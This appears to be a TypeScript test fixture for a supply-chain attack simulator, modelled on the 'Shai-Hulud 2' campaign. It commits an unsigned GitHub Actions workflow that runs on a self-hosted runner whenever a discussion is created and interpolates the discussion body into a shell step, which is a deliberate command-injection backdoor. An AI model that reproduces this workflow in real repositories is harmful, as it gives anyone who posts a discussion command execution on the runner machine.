import { TOMAS } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";
import { workflow } from "../../project-files.ts";
import { expression } from "../../put-together.ts";

export const golden: GoldenCase = {
  kind: "attack",
  base: "javascript",
  story: "Shai-Hulud 2, November 2025: a machine that the attacker registered as a runner does what a discussion says.",
  write(branch) {
    branch.unsigned(TOMAS, "Add Discussion Create", {
      ".github/workflows/discussion.yaml": workflow({
        name: "Discussion Create",
        on: "\n  discussion:",
        head: "",
        runsOn: "self-hosted",
        steps: `- uses: actions/checkout@v5\n- name: Handle Discussion\n  run: echo ${expression("github.event.discussion.body")}`,
      }),
    });
  },
};
